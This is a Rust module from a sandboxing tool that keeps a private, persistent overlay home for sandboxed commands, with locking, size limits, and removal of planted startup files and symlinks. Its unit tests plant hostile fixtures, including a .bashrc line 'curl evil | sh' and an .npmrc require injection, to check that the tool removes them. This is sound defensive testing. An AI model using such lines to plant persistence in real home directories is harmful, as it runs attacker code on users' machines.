//! A private, persistent, writable home for sandboxes (host side).
//!
//! Inside the sandbox `$HOME` is an overlay: the caller's real home, read-only
//! and with its secrets still hidden (the hide mounts go on top of the
//! overlay, see `layers::mounts`), under a writable *layer* kept in
//! sharkcage's state directory: `<state>/home-layers/<id>/{upper,work}`.
//! Package caches, tool configs and dotfiles written by a command land in the
//! layer, never in the real home, and the next call with the same layer sees
//! them (a second `npm install` is warm).
//!
//! What keeps it safe:
//! * **Where layers live** is sharkcage's state directory, a mandatory
//!   read-deny: no sandbox sees any layer's files except through its own
//!   `$HOME`. Every directory of a layer is opened without following a
//!   symlink and must be the caller's own, mode 0700.
//! * **A layer never un-hides anything.** Before each call, whatever the
//!   layer holds at a path the plan mounts something on (a hidden secret, a
//!   credential-free config copy, a workspace…), or at a directory above one,
//!   is dropped from it ([`Layer::clear_paths`]): a planted symlink, a
//!   whiteout or an opaque directory could otherwise hide or redirect what
//!   the plan expects there. The hidden paths themselves are mounted over
//!   the overlay as without a layer.
//! * **Nothing in it runs later.** Startup places (shell rc files, git's
//!   global configs, `~/.local/bin`, `~/.npmrc`, … — the `gitstate` lists)
//!   do not persist in a layer: they are dropped after every call and
//!   before the next, and reported. A call may still use what it writes
//!   there itself.
//! * **Bounded.** After a call the layer's size is measured; one past
//!   `limits.homeLayerBytes` is cleared before the next call, with a notice.
//! * **One call at a time.** A layer is locked for the call (`flock`); a
//!   concurrent call with the same key gets a temporary layer, removed after
//!   it, with a notice (two overlays on one upper directory are undefined).
//!
//! Keys: `sc exec` uses the workspace (`workspace:<path>`, or `default`
//! without one), `--home-layer NAME` a name, OpenClaw its sandbox scope;
//! `--fresh-home` an empty temporary layer; `--home-layer none` no layer
//! (a read-only home, as before).

use std::ffi::OsStr;
use std::fs::File;
use std::os::fd::AsRawFd;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use crate::gitstate;

mod remove;

/// Which layer a call asks for.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum Request {
    /// Keyed by the workspace (the default).
    #[default]
    Workspace,
    /// A named layer (`--home-layer NAME`; OpenClaw's scope).
    Named(String),
    /// An empty layer for this call only (`--fresh-home`).
    Fresh,
    /// No layer: the home is read-only (`--home-layer none`).
    Off,
}

impl Request {
    /// `--home-layer VALUE`: `none`, `workspace`, or a name of 1–128
    /// letters, digits and `._:-`.
    pub fn parse(v: &str) -> Result<Request, String> {
        match v {
            "none" | "off" => Ok(Request::Off),
            "workspace" | "auto" => Ok(Request::Workspace),
            "fresh" => Ok(Request::Fresh),
            n if !n.is_empty() && n.len() <= 128 && n.bytes().all(|b| b.is_ascii_alphanumeric() || b"._:-".contains(&b)) => Ok(Request::Named(n.to_string())),
            _ => Err(format!("--home-layer {v:?}: expected none, workspace, fresh or a name of at most 128 letters, digits and . _ : -")),
        }
    }
}

/// What `sc home list` shows and each layer keeps in `meta.json`.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default)]
pub struct Meta {
    pub key: String,
    /// Bytes on disk (allocated blocks) after the last call.
    pub bytes: u64,
    pub files: u64,
    /// Unix seconds.
    pub created_at: u64,
    /// When `bytes` was measured.
    pub measured_at: u64,
    /// When a call last used it (the lock file's mtime; not stored).
    #[serde(skip_deserializing)]
    pub last_used_at: u64,
    /// Deeper than [`MAX_DEPTH`] when measured.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub too_deep: bool,
    /// Why the layer could not be cleaned after a call (then it is cleared
    /// before the next, or not used).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub broken: Option<String>,
}

impl Meta {
    /// Why the layer must be cleared before it is used again, if it must.
    fn over(&self, cap: u64) -> Option<String> {
        if let Some(why) = &self.broken {
            return Some(format!("left uncleaned ({why})"));
        }
        if self.bytes > cap {
            return Some(format!("{} (over limits.homeLayerBytes {})", human(self.bytes), human(cap)));
        }
        if self.files > MAX_FILES {
            return Some(format!("{} entries (over {MAX_FILES})", self.files));
        }
        self.too_deep.then(|| format!("deeper than {MAX_DEPTH} levels"))
    }
}

/// How often a layer's size is measured, at most.
const MEASURE_EVERY_SECS: u64 = 60;

/// The layer's directory is as it must be: reached without a symlink, the
/// caller's, private, with `upper` and `work` directories of the caller's
/// (the common case, checked with a handful of system calls).
fn ready(dir: &Path) -> bool {
    use crate::layers::sys;
    let Ok(c) = std::ffi::CString::new(dir.as_os_str().as_bytes()) else { return false };
    let Ok(fd) = sys::open_path_no_symlinks(&c, libc::O_DIRECTORY) else { return false };
    // SAFETY: a fresh descriptor that nothing else owns.
    let fd = unsafe { <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) };
    // SAFETY: geteuid cannot fail.
    let euid = unsafe { libc::geteuid() };
    let mine = |st: &libc::stat, private: bool| (st.st_mode & libc::S_IFMT) == libc::S_IFDIR && st.st_uid == euid && (!private || st.st_mode & 0o077 == 0);
    if !sys::fstat(fd.as_raw_fd()).is_ok_and(|st| mine(&st, true)) {
        return false;
    }
    [c"upper", c"work"].iter().all(|sub| {
        // SAFETY: fstatat below our descriptor into a zeroed struct, no symlink followed.
        let mut st: libc::stat = unsafe { std::mem::zeroed() };
        let r = unsafe { libc::fstatat(fd.as_raw_fd(), sub.as_ptr(), &mut st, libc::AT_SYMLINK_NOFOLLOW) };
        r == 0 && mine(&st, false)
    })
}

/// A layer prepared for one call (locked until dropped).
#[derive(Debug)]
pub struct Layer {
    /// The layer's directory: `upper/` and `work/` are in it.
    pub dir: PathBuf,
    pub key: String,
    /// Removed after the call (`--fresh-home`, or the keyed one was busy).
    pub temporary: bool,
    /// What happened before the call, for the person (cleared, busy, dropped).
    pub notes: Vec<String>,
    /// Written back after the call.
    meta: Meta,
    /// Directories on `PATH` inside the home (relative to it).
    exec_dirs: Vec<PathBuf>,
    _lock: File,
}

/// Where layers live: `<state>/home-layers`.
pub fn root() -> Option<PathBuf> {
    crate::fileio::state_dir().map(|d| d.join("home-layers"))
}

/// A layer's directory name: the first 16 bytes of SHA-256 of its key, hex.
pub fn id_of(key: &str) -> String {
    Sha256::digest(key.as_bytes()).iter().take(16).map(|b| format!("{b:02x}")).collect()
}

/// The key of a call's layer.
pub fn key_for(req: &Request, workspace: Option<&Path>) -> Option<String> {
    match req {
        Request::Off | Request::Fresh => None,
        Request::Named(n) => Some(format!("name:{n}")),
        Request::Workspace => Some(match workspace {
            Some(w) => format!("workspace:{}", crate::policy::paths::canonicalize_lenient(w).display()),
            None => "default".to_string(),
        }),
    }
}

/// When the host booted (unix seconds, `/proc/stat` `btime`).
fn boot_time() -> Option<u64> {
    std::fs::read_to_string("/proc/stat").ok()?.lines().find_map(|l| l.strip_prefix("btime ")?.trim().parse().ok())
}

fn now() -> u64 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0)
}

/// The directory `p` (absolute) exists, is no symlink anywhere on its path,
/// belongs to the caller and is private (0700); made so when missing.
fn private_dir(p: &Path) -> Result<(), String> {
    crate::fileio::create_private_dir_exact(p).map_err(|e| format!("{}: {e}", p.display()))?;
    let m = std::fs::symlink_metadata(p).map_err(|e| format!("{}: {e}", p.display()))?;
    // SAFETY: geteuid cannot fail.
    let euid = unsafe { libc::geteuid() };
    if !m.is_dir() || m.uid() != euid {
        return Err(format!("{}: not a directory of yours", p.display()));
    }
    if m.permissions().mode() & 0o077 != 0 {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o700)).map_err(|e| format!("{}: {e}", p.display()))?;
    }
    Ok(())
}

/// Lock `dir/lock` for the call; `None` when another call holds it.
fn try_lock(dir: &Path) -> Result<Option<File>, String> {
    use std::os::unix::fs::OpenOptionsExt;
    let f = std::fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .mode(0o600)
        .custom_flags(libc::O_NOFOLLOW | libc::O_CLOEXEC)
        .open(dir.join("lock"))
        .map_err(|e| format!("{}: {e}", dir.join("lock").display()))?;
    // SAFETY: flock on a descriptor we own.
    if unsafe { libc::flock(f.as_raw_fd(), libc::LOCK_EX | libc::LOCK_NB) } != 0 {
        return Ok(None);
    }
    // Its mtime is the layer's last use.
    // SAFETY: futimens with a null times pointer (now) on our descriptor.
    unsafe { libc::futimens(f.as_raw_fd(), std::ptr::null()) };
    Ok(Some(f))
}

/// Prepare the call's layer: create or open it, lock it, clear it when it
/// grew past `cap` (bytes, or [`MAX_FILES`] entries, or deeper than
/// [`MAX_DEPTH`]), finish what a killed call left. `Ok(None)`: no layer
/// asked for. An error is for a note: the call then runs without a layer.
pub fn prepare(req: &Request, workspace: Option<&Path>, cap: u64) -> Result<Option<Layer>, String> {
    if *req == Request::Off {
        return Ok(None);
    }
    let root = root().ok_or("no state directory is known (no home directory)")?;
    let mut notes = Vec::new();
    if let Some(key) = key_for(req, workspace) {
        let dir = root.join(id_of(&key));
        let is_ready = ready(&dir);
        if !is_ready {
            private_dir(&root)?;
            private_dir(&dir)?;
        }
        if let Some(lock) = try_lock(&dir)? {
            let mut meta = read_meta(&dir);
            if meta.key.is_empty() {
                meta = Meta { key: key.clone(), created_at: now(), ..Meta::default() };
            }
            if let Some(why) = meta.over(cap) {
                clear_upper(&dir)?;
                notes.push(format!("home layer was {why}: cleared"));
                meta.bytes = 0;
                meta.files = 0;
                meta.too_deep = false;
                meta.broken = None;
            }
            let mut layer = Layer { dir, key, temporary: false, notes, meta, exec_dirs: exec_dirs(), _lock: lock };
            if !is_ready {
                layer.make_dirs()?;
            }
            // An earlier call's `finish` did not run (its launcher was
            // killed, or the host went down): do its part now.
            if layer.settle_volatile()? {
                layer.notes.push("home layer cleared: the host went down while a call was using it (its last writes may be torn)".into());
            }
            // The upper directory is the sandbox's $HOME: whatever mode it
            // left there, the launcher must be able to work in it.
            let _ = std::fs::set_permissions(layer.upper(), std::fs::Permissions::from_mode(0o700));
            return Ok(Some(layer));
        }
        notes.push("home layer in use by another call: this call's home writes are not kept".to_string());
    }
    private_dir(&root)?;
    let tmp = root.join(format!("tmp-{}-{}", std::process::id(), std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.subsec_nanos()).unwrap_or(0)));
    private_dir(&tmp)?;
    // Locked too, so `sc home clear` never removes it under a running call.
    let lock = try_lock(&tmp)?.ok_or_else(|| format!("{}: locked by another process", tmp.display()))?;
    let layer = Layer { dir: tmp, key: "fresh".to_string(), temporary: true, notes, meta: Meta::default(), exec_dirs: Vec::new(), _lock: lock };
    layer.make_dirs()?;
    Ok(Some(layer))
}

/// Directories on the command's `PATH` inside the home, relative to it: what
/// a layer puts there would run in later calls in place of the real tools.
fn exec_dirs() -> Vec<PathBuf> {
    let Some(home) = crate::policy::paths::primary_home() else { return Vec::new() };
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path).filter_map(|d| d.strip_prefix(&home).ok().filter(|r| !r.as_os_str().is_empty()).map(Path::to_path_buf)).collect()
}

/// Places in a home whose content later commands load or run by lookup,
/// beyond the startup lists of `gitstate`: every user site-packages and
/// Node's home-wide module folders.
const LAYER_CODE_PLACES: &[&str] = &[".local/lib", "node_modules", ".node_modules", ".node_libraries"];

impl Layer {
    pub fn upper(&self) -> PathBuf {
        self.dir.join("upper")
    }

    fn make_dirs(&self) -> Result<(), String> {
        private_dir(&self.upper())?;
        private_dir(&self.dir.join("work"))
    }

    /// The overlay is mounted `volatile` (no sync of the whole filesystem the
    /// layer is on when the sandbox ends, up to hundreds of milliseconds per call);
    /// overlayfs then leaves `work/work/incompat/volatile` and refuses the
    /// next mount until it is gone. `finish` removes overlayfs's `work/work`
    /// after every call; found here, `finish` did not run. Left from this
    /// boot, the overlay was unmounted by the kernel and its writes go to
    /// disk as any file's: the startup places are dropped (`finish`'s other
    /// part) and the mark removed. Left from an earlier boot, the host went
    /// down with writes of the layer unsynced: the layer may be torn, and is
    /// cleared. Returns whether it was cleared.
    fn settle_volatile(&mut self) -> Result<bool, String> {
        let mark = self.dir.join("work/work");
        let Ok(m) = mark.symlink_metadata() else { return Ok(false) };
        let crashed = boot_time().is_some_and(|b| m.mtime() < b as i64);
        if crashed {
            clear_upper(&self.dir)?;
            self.make_dirs()?;
        } else {
            let dropped = self.drop_startup_or_clear()?;
            self.notes.extend(dropped_note(&dropped, "left by an earlier call"));
            remove_rel(&self.dir, "work/work")?;
        }
        Ok(crashed)
    }

    /// Drop from the layer whatever it holds at `paths` (absolute, under
    /// `home`) or instead of a directory above them: the plan mounts
    /// something there, and the layer must neither hide nor redirect it.
    /// Returns the paths dropped (as the sandbox names them); an error when
    /// something could not be removed (the layer must not be used then).
    pub fn clear_paths(&self, home: &Path, paths: &[&Path]) -> Result<Vec<PathBuf>, String> {
        let upper = self.upper();
        let mut dropped = Vec::new();
        let mut seen = std::collections::HashSet::new();
        for p in paths {
            let Ok(rel) = p.strip_prefix(home) else { continue };
            if rel.as_os_str().is_empty() {
                continue;
            }
            let mut cur = PathBuf::new();
            let n = rel.components().count();
            for (i, c) in rel.components().enumerate() {
                cur.push(c);
                if !seen.insert(cur.clone()) && i + 1 < n {
                    continue;
                }
                // (Every directory above `cur` was checked to be a plain one.)
                let at = upper.join(&cur);
                let Ok(m) = at.symlink_metadata() else { break };
                let last = i + 1 == n;
                // Above the target only a plain, non-opaque directory may stay.
                if last || !m.is_dir() || opaque(&at) {
                    if remove_rel(&upper, &cur)? {
                        dropped.push(home.join(&cur));
                    }
                    break;
                }
            }
        }
        Ok(dropped)
    }

    /// Remove from the layer what would run or be loaded by later calls:
    /// every dotfile directly in the home (shell rc files, `.gitconfig`, and
    /// the files those source or include, whatever their names: `.fzf.bash`,
    /// `.gitconfig.local`…; a layer keeps directories — caches, tool configs —
    /// and ordinary files), the startup places of `gitstate`
    /// (`~/.config/git`, `~/.local/bin`, …), the directories on `PATH` inside
    /// the home, user site-packages and Node's home module folders. Returns
    /// them as `~/…`.
    pub fn drop_startup(&self) -> Result<Vec<String>, String> {
        let upper = self.upper();
        let Ok(top) = std::fs::read_dir(&upper) else { return Ok(Vec::new()) };
        let mut top_dirs = std::collections::HashSet::new();
        let mut out = Vec::new();
        for e in top.flatten() {
            let name = e.file_name();
            let Ok(ft) = e.file_type() else { continue };
            // A whiteout (a deleted real file) adds nothing.
            let whiteout = ft.is_char_device() && e.metadata().is_ok_and(|m| m.rdev() == 0);
            if ft.is_dir() {
                top_dirs.insert(name.as_bytes().to_vec());
            } else if !whiteout && name.as_bytes().starts_with(b".") && remove_rel(&upper, Path::new(&name))? {
                out.push(format!("~/{}", name.to_string_lossy()));
            }
        }
        let places = gitstate::STARTUP.iter().map(|s| PathBuf::from(*s)).chain(LAYER_CODE_PLACES.iter().map(PathBuf::from)).chain(self.exec_dirs.iter().cloned());
        for rel in places {
            let Some(first) = rel.components().next() else { continue };
            if !top_dirs.contains(first.as_os_str().as_bytes()) {
                continue;
            }
            if remove_rel(&upper, &rel)? {
                out.push(format!("~/{}", rel.display()));
            }
        }
        out.extend(self.drop_home_startup(&top_dirs)?);
        Ok(out)
    }

    /// [`gitstate::HOME_STARTUP`] entries found in the layer.
    fn drop_home_startup(&self, top: &std::collections::HashSet<Vec<u8>>) -> Result<Vec<String>, String> {
        let upper = self.upper();
        let firsts: Vec<&str> = gitstate::HOME_STARTUP.iter().map(|(d, n)| d.split('/').find(|p| !p.is_empty()).unwrap_or(n)).collect();
        if !firsts.iter().any(|f| top.iter().any(|n| f.strip_suffix('*').map_or(n.as_slice() == f.as_bytes(), |p| n.starts_with(p.as_bytes())))) {
            return Ok(Vec::new());
        }
        let Ok(fd) = crate::treewalk::open_root(&upper) else { return Ok(Vec::new()) };
        let mut found = Vec::new();
        // Deep enough for every entry (`.local/lib/python3.x/site-packages/x.pth`).
        crate::treewalk::walk(
            fd.as_raw_fd(),
            |rel, _| if rel.components().count() < 4 { crate::treewalk::Descend::Yes } else { crate::treewalk::Descend::No },
            |v| {
                for e in v.entries {
                    if gitstate::home_startup_typed(v.rel, &e.name, e.ty) {
                        found.push(v.rel.join(OsStr::from_bytes(&e.name)));
                    }
                }
            },
        );
        let mut out = Vec::new();
        for r in found {
            if remove_rel(&upper, &r)? {
                out.push(format!("~/{}", r.display()));
            }
        }
        Ok(out)
    }

    /// [`Self::drop_startup`]; when something there cannot be removed, the
    /// whole layer is cleared instead (never kept with a startup file in it).
    fn drop_startup_or_clear(&self) -> Result<Vec<String>, String> {
        match self.drop_startup() {
            Ok(d) => Ok(d),
            Err(why) => {
                clear_upper(&self.dir)?;
                self.make_dirs()?;
                Ok(vec![format!("everything (a startup place could not be removed: {why})")])
            }
        }
    }

    /// After the call: drop startup places, measure, record; a temporary
    /// layer is removed. Returns notes for the person.
    pub fn finish(mut self) -> Vec<String> {
        if self.temporary {
            if let (Some(root), Some(name)) = (self.dir.parent(), self.dir.file_name()) {
                let _ = remove_rel(root, Path::new(name));
            }
            return Vec::new();
        }
        let dropped = match self.drop_startup_or_clear() {
            Ok(d) => d,
            Err(why) => {
                // Not even clearable: never used again until `sc home clear`.
                self.meta.broken = Some(why.clone());
                write_meta(&self.dir, &self.meta);
                return vec![format!("home layer could not be cleaned ({why}): it will not be used again; remove it with `sc home clear`")];
            }
        };
        let notes = dropped_note(&dropped, "written by this call");
        // The sandbox is gone, and its overlay with it (see `settle_volatile`).
        let _ = remove_rel(&self.dir, "work/work");
        // Measuring walks the whole layer: at most once a minute (a large
        // cache would cost milliseconds on every call).
        if now().saturating_sub(self.meta.measured_at) >= MEASURE_EVERY_SECS {
            let u = usage(&self.dir);
            write_meta(&self.dir, &Meta { bytes: u.bytes, files: u.files, too_deep: u.too_deep, measured_at: now(), ..self.meta.clone() });
        }
        notes.into_iter().collect()
    }
}

/// One notice line for what was dropped (the first few named).
fn dropped_note(dropped: &[String], when: &str) -> Option<String> {
    if dropped.is_empty() {
        return None;
    }
    let mut names: Vec<&str> = dropped.iter().take(5).map(String::as_str).collect();
    let more = dropped.len().saturating_sub(names.len());
    let tail = if more > 0 { format!(" and {more} more") } else { String::new() };
    names.sort_unstable();
    Some(format!("dropped {}{tail} from the home layer ({when}; startup files and code do not persist there)", names.join(", ")))
}

/// The directory carries overlayfs's opaque mark (`user.overlay.opaque`, as
/// a layer mounted with `userxattr` writes it).
fn opaque(p: &Path) -> bool {
    let Ok(c) = std::ffi::CString::new(p.as_os_str().as_bytes()) else { return true };
    let mut v = [0u8; 4];
    // SAFETY: lgetxattr into a stack buffer of the given size.
    let n = unsafe { libc::lgetxattr(c.as_ptr(), c"user.overlay.opaque".as_ptr(), v.as_mut_ptr().cast(), v.len()) };
    n > 0 && v[0] == b'y'
}

/// Remove `rel` below `base` (see `remove`), as a message on failure.
fn remove_rel(base: &Path, rel: impl AsRef<Path>) -> Result<bool, String> {
    let rel = rel.as_ref();
    remove::remove_beneath(base, rel).map_err(|e| format!("removing {}: {e}", base.join(rel).display()))
}

/// Empty a layer (its `upper` and `work`), keeping the directory and lock.
fn clear_upper(dir: &Path) -> Result<(), String> {
    for sub in ["upper", "work"] {
        remove_rel(dir, sub)?;
    }
    Ok(())
}

/// Entries past which a layer is cleared, whatever its size in bytes
/// (empty files, symlinks and directories use inodes, not bytes).
pub const MAX_FILES: u64 = 1_000_000;
/// Depth past which a layer is cleared (no tool's cache is this deep; a
/// deeper tree only makes the walks slow).
pub const MAX_DEPTH: usize = 256;

/// What a layer's `upper` holds.
#[derive(Debug, Default, Clone, Copy)]
pub struct Usage {
    pub bytes: u64,
    pub files: u64,
    pub too_deep: bool,
}

/// Bytes allocated and entries in a layer's `upper` (no symlink followed),
/// walking at most [`MAX_FILES`] entries and [`MAX_DEPTH`] levels.
pub fn usage(dir: &Path) -> Usage {
    let Ok(fd) = crate::treewalk::open_root(&dir.join("upper")) else { return Usage::default() };
    let mut u = Usage::default();
    let mut too_deep = false;
    crate::treewalk::walk(
        fd.as_raw_fd(),
        |rel, _| {
            if rel.components().count() + 1 >= MAX_DEPTH {
                too_deep = true;
                return crate::treewalk::Descend::No;
            }
            crate::treewalk::Descend::Yes
        },
        |v| {
            if u.files > MAX_FILES {
                return;
            }
            for e in v.entries {
                u.files += 1;
                let Ok(c) = std::ffi::CString::new(e.name.clone()) else { continue };
                // SAFETY: fstatat below a directory descriptor, into a zeroed struct.
                let mut st: libc::stat = unsafe { std::mem::zeroed() };
                if unsafe { libc::fstatat(v.fd, c.as_ptr(), &mut st, libc::AT_SYMLINK_NOFOLLOW) } == 0 {
                    u.bytes += st.st_blocks as u64 * 512;
                }
            }
        },
    );
    u.too_deep = too_deep;
    u
}

fn read_meta(dir: &Path) -> Meta {
    std::fs::read(dir.join("meta.json")).ok().and_then(|b| serde_json::from_slice(&b).ok()).unwrap_or_default()
}

/// Replace `meta.json` (not synced: it is advisory, and a lost update only
/// delays the size check by one call).
fn write_meta(dir: &Path, meta: &Meta) {
    let _ = crate::fileio::write_replace_unsynced(&dir.join("meta.json"), &serde_json::to_vec_pretty(meta).unwrap_or_default(), 0o600);
}

/// `1.5 GiB`, `12 MiB`, `300 KiB`, `17 B`.
pub fn human(b: u64) -> String {
    const U: [&str; 4] = ["KiB", "MiB", "GiB", "TiB"];
    if b < 1024 {
        return format!("{b} B");
    }
    let mut v = b as f64 / 1024.0;
    let mut i = 0;
    while v >= 1024.0 && i + 1 < U.len() {
        v /= 1024.0;
        i += 1;
    }
    if v < 10.0 {
        format!("{v:.1} {}", U[i])
    } else {
        format!("{v:.0} {}", U[i])
    }
}

/// One layer as `sc home list` shows it.
#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Listed {
    pub id: String,
    pub dir: PathBuf,
    #[serde(flatten)]
    pub meta: Meta,
    /// A call is using it now.
    pub in_use: bool,
}

/// Every kept layer (temporary ones left by a killed launcher too).
pub fn list() -> Vec<Listed> {
    let Some(root) = root() else { return Vec::new() };
    let Ok(rd) = std::fs::read_dir(&root) else { return Vec::new() };
    let mut v: Vec<Listed> = rd
        .flatten()
        .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
        .map(|e| {
            let dir = e.path();
            let lock_mtime = std::fs::metadata(dir.join("lock")).map(|m| m.mtime().max(0) as u64).unwrap_or(0);
            let in_use = matches!(try_lock(&dir), Ok(None));
            let mut meta = read_meta(&dir);
            meta.last_used_at = lock_mtime;
            if meta.key.is_empty() {
                meta.key = "fresh".to_string();
            }
            Listed { id: e.file_name().to_string_lossy().into_owned(), dir, meta, in_use }
        })
        .collect();
    v.sort_by(|a, b| a.meta.key.cmp(&b.meta.key));
    v
}

/// Remove a layer (it must not be in use). Returns its size before.
pub fn remove(l: &Listed) -> Result<u64, String> {
    let Some(_lock) = try_lock(&l.dir)? else {
        return Err(format!("{} is in use by a running call", l.meta.key));
    };
    let (Some(root), Some(name)) = (l.dir.parent(), l.dir.file_name()) else { return Err(format!("{}: not a layer", l.dir.display())) };
    remove_rel(root, Path::new(name))?;
    Ok(l.meta.bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn test_layer(dir: &Path) -> Layer {
        let lock = try_lock(dir).unwrap().unwrap();
        Layer { dir: dir.to_path_buf(), key: "t".into(), temporary: false, notes: vec![], meta: Meta::default(), exec_dirs: vec![PathBuf::from(".npm-global/bin")], _lock: lock }
    }

    #[test]
    fn parses_the_flag() {
        assert_eq!(Request::parse("none"), Ok(Request::Off));
        assert_eq!(Request::parse("workspace"), Ok(Request::Workspace));
        assert_eq!(Request::parse("fresh"), Ok(Request::Fresh));
        assert_eq!(Request::parse("openclaw:agent-1"), Ok(Request::Named("openclaw:agent-1".into())));
        assert!(Request::parse("../x").is_err());
        assert!(Request::parse("").is_err());
        assert!(Request::parse(&"a".repeat(129)).is_err());
    }

    #[test]
    fn keys_and_ids() {
        assert_eq!(key_for(&Request::Workspace, None).as_deref(), Some("default"));
        assert_eq!(key_for(&Request::Named("x".into()), None).as_deref(), Some("name:x"));
        assert_eq!(key_for(&Request::Fresh, None), None);
        assert_eq!(id_of("default").len(), 32);
        assert_ne!(id_of("name:a"), id_of("name:b"));
    }

    #[test]
    fn clear_paths_drops_what_shadows_a_mounted_path() {
        let d = tempfile::tempdir().unwrap();
        let layer = test_layer(d.path());
        let up = layer.upper();
        std::fs::create_dir_all(up.join(".config/gh")).unwrap();
        std::fs::write(up.join(".config/gh/hosts.yml"), "planted").unwrap();
        std::fs::create_dir_all(up.join("keep/me")).unwrap();
        std::os::unix::fs::symlink("/etc", up.join(".ssh")).unwrap();
        let home = Path::new("/home/u");
        let dropped = layer.clear_paths(home, &[Path::new("/home/u/.config/gh"), Path::new("/home/u/.ssh"), Path::new("/home/u/.aws/credentials")]).unwrap();
        assert_eq!(dropped, vec![PathBuf::from("/home/u/.config/gh"), PathBuf::from("/home/u/.ssh")]);
        assert!(up.join(".config").is_dir(), "a plain directory above stays");
        assert!(up.join(".ssh").symlink_metadata().is_err());
        assert!(up.join("keep/me").is_dir());
        assert!(Path::new("/etc").is_dir());
    }

    #[test]
    fn startup_places_are_dropped_and_data_kept() {
        let d = tempfile::tempdir().unwrap();
        let layer = test_layer(d.path());
        let up = layer.upper();
        std::fs::create_dir_all(up.join(".npm/_cacache")).unwrap();
        std::fs::create_dir_all(up.join(".local/bin")).unwrap();
        std::fs::create_dir_all(up.join(".local/lib/python3.11/site-packages")).unwrap();
        std::fs::write(up.join(".local/lib/python3.11/site-packages/evil.pth"), "import os").unwrap();
        std::fs::write(up.join(".bashrc"), "curl evil | sh").unwrap();
        std::fs::write(up.join(".npmrc"), "node-options=--require /x").unwrap();
        std::os::unix::fs::symlink("/tmp", up.join(".config")).unwrap();
        let mut dropped = layer.drop_startup().unwrap();
        dropped.sort();
        assert!(dropped.contains(&"~/.bashrc".to_string()), "{dropped:?}");
        assert!(dropped.contains(&"~/.npmrc".to_string()), "{dropped:?}");
        assert!(dropped.contains(&"~/.local/bin".to_string()), "{dropped:?}");
        assert!(dropped.contains(&"~/.config".to_string()), "{dropped:?}");
        // The whole user site (code later imports), the PATH directory, a
        // file any rc file may source.
        assert!(dropped.contains(&"~/.local/lib".to_string()), "{dropped:?}");
        assert!(!up.join(".local/lib/python3.11/site-packages/evil.pth").exists());
        assert!(dropped.contains(&"~/.npm-global/bin".to_string()) || !up.join(".npm-global").exists(), "{dropped:?}");
        assert!(up.join(".npm/_cacache").is_dir());
        assert!(Path::new("/tmp").is_dir());
        std::fs::create_dir_all(up.join(".npm-global/bin")).unwrap();
        std::fs::write(up.join(".npm-global/bin/ls"), "evil").unwrap();
        std::fs::write(up.join(".fzf.bash"), "evil").unwrap();
        std::fs::create_dir_all(up.join("node_modules/yaml")).unwrap();
        let dropped = layer.drop_startup().unwrap();
        for d in ["~/.npm-global/bin", "~/.fzf.bash", "~/node_modules"] {
            assert!(dropped.contains(&d.to_string()), "{d}: {dropped:?}");
        }
        assert!(up.join(".npm-global").is_dir(), "only the PATH directory goes");
    }

    #[test]
    fn human_sizes() {
        assert_eq!(human(17), "17 B");
        assert_eq!(human(1536), "1.5 KiB");
        assert_eq!(human(4 * 1024 * 1024 * 1024), "4.0 GiB");
    }
}
